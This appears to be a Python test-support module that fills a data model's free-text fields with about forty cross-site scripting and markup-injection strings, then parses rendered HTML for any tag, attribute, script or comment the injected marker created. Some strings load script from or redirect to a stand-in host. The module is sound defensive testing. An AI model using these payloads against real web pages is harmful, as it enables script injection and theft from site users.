"""Texts that would act in a page if a field of the data reached it as code, and what a page made of them must not hold."""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from html.parser import HTMLParser
from typing import Annotated, Any, get_args, get_origin

from pydantic import TypeAdapter, ValidationError

from wristward.data.records.record import Record, Refers

MARK = "evilmark"
"""Stands in every text, where it would act."""

STRINGS = (
    "<script>evilmark()</script>",
    "<script src=//evilmark.example/x.js></script>",
    "</script><script>evilmark()</script>",
    "<img src=x onerror=evilmark()>",
    "<svg onload=evilmark()>",
    "<evilmark>",
    "<a href='javascript:evilmark()'>v</a>",
    "<iframe src=//evilmark.example></iframe>",
    "<meta http-equiv=refresh content='0;url=//evilmark.example'>",
    '" http-equiv="refresh" content="0;url=//evilmark.example',
    '" onmouseover="evilmark()" x="',
    "' onfocus='evilmark()' autofocus='",
    '"><script>evilmark()</script>',
    "'><img src=x onerror=evilmark()>",
    "--><script>evilmark()</script><!--",
    "<!-- evilmark",
    "]]><script>evilmark()</script>",
    "[v](javascript:evilmark())",
    "[v](javascript&colon;evilmark())",
    "[v](&#106;avascript:evilmark())",
    "[v]( java\tscript:evilmark())",
    "[v](//evilmark.example)",
    "![v](//evilmark.example/x.png)",
    '![v](x.png "evilmark" onerror=evilmark())',
    "[v][evilmark]\n\n[evilmark]: javascript:evilmark()",
    "<javascript:evilmark()>",
    "<https://evilmark.example>",
    "<evilmark@evilmark.example>",
    "{ onclick=evilmark() }",
    "{: onclick=evilmark() .evilmark #evilmark }",
    "text\n{: onclick=evilmark() }",
    "`evilmark`{: onclick=evilmark() }",
    "*evilmark*{ onclick=evilmark() }",
    "```\nevilmark\n```",
    "text\n\n    evilmark\n\n# evilmark",
    "x | y\n--- | ---\nevilmark | <b>evilmark</b>",
    "&lt;script&gt;evilmark()&lt;/script&gt;",
    "&#60;img src=x onerror=evilmark()&#62;",
    "${evilmark()} {{ evilmark }} {% evilmark %}",
    "[^evilmark]\n\n[^evilmark]: <img src=x onerror=evilmark()>",
)
TOLD = {"alt", "title", "content", "value", "placeholder", "label", "data-search", "aria-label", "aria-valuetext"}
"""Attributes that hold what is told to a reader; a text in them is a text."""


def with_text(value: Any, texts: Iterator[str], annotation: Any = None) -> Any:
    """Return a record with the next text in every field that is free text; what refers to something stays."""
    if isinstance(value, Record):
        fields = type(value).model_fields
        update = {
            name: with_text(getattr(value, name), texts, Annotated[info.annotation, name, *info.metadata])
            for name, info in fields.items()
        }
        return value.model_copy(update=update)
    if isinstance(value, str):
        # What looks like an id is one, though no mark says so: a point of a drawing, for instance.
        if re.fullmatch(r"[a-z0-9]+(_[a-z0-9]+)+", value) is None and takes(
            annotation, text := f"{value} {next(texts)}"
        ):
            return text
        return value
    inner = _inner(annotation)
    if isinstance(value, tuple):
        return tuple(with_text(one, texts, inner[0] if inner else None) for one in value)
    if isinstance(value, Mapping):
        return {key: with_text(one, texts, inner[-1] if inner else None) for key, one in value.items()}
    return value


def takes(annotation: Any, text: str) -> bool:
    """Say whether a field may hold a text: it names nothing that must be known, and the reader of the data lets it pass."""
    if annotation is None or _refers(annotation):
        return False
    try:
        TypeAdapter(annotation).validate_python(text)
    except ValidationError:
        return False
    return True


def _refers(annotation: Any) -> bool:
    marks = get_args(annotation)
    return any(isinstance(mark, Refers) or _refers(mark) for mark in marks)


def _inner(annotation: Any) -> tuple[Any, ...]:
    """Return what a tuple or a mapping holds, through what is written around it."""
    while annotation is not None:
        arguments = [one for one in get_args(annotation) if one is not type(None) and one is not Ellipsis]
        if get_origin(annotation) in (tuple, dict):
            return tuple(arguments)
        annotation = arguments[0] if arguments else None
    return ()


class Acting(HTMLParser):
    """Finds where a text of the data became more than a text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag or an attribute that a text has made."""
        self._script = tag == "script" and dict(attrs).get("type") is None
        if MARK in tag:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            told = name in TOLD or name.startswith(("data-", "aria-"))
            # A heading's own anchor is made of its letters, by the host.
            told = told or (name == "id" and re.fullmatch(r"h[1-6]", tag) is not None and value != MARK)
            if MARK in name or (MARK in (value or "") and not told):
                self.found.append(f"<{tag} {name}={value!r}>"[:200])

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """See a tag that closes itself as any other."""
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        """Note a text that a script begins with; inside its values it is one."""
        if self._script and data.startswith(MARK):
            self.found.append(f"<script>{data}"[:200])

    def handle_comment(self, data: str) -> None:
        """Note a text that has become a remark."""
        if MARK in data:
            self.found.append(f"<!--{data}-->"[:200])


def acting(html: str) -> list[str]:
    """Return each tag, attribute and remark of a page that a text of the data made."""
    reader = Acting()
    reader.feed(html)
    reader.close()
    return reader.found
